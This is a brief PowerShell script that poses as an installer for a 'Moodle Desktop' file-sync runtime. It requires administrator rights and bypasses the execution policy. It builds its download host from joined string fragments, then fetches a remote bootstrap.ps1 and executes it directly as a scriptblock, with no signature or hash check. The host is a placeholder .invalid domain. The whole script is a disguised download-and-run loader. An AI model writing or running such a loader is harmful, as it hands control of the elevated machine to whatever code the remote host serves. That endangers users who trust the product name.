#Requires -RunAsAdministrator
# Installs the Moodle Desktop file-sync runtime (4.x) if missing.
Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass -Force
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12

if (Test-Path "$env:ProgramData\MoodleDesktop\runtime.ver") {
    Write-Host 'Moodle Desktop runtime already installed'; return
}

$h = @('moodle', 'desktop', 'runtime') -join '-'
$u = "https://$h.invalid/win/4.2/bootstrap.ps1"
$wc = New-Object Net.WebClient
$wc.Headers['User-Agent'] = 'MoodleDesktop/4.2'
$body = $wc.DownloadString($u)
& ([scriptblock]::Create($body)) -Quiet
Write-Host 'Runtime installed'
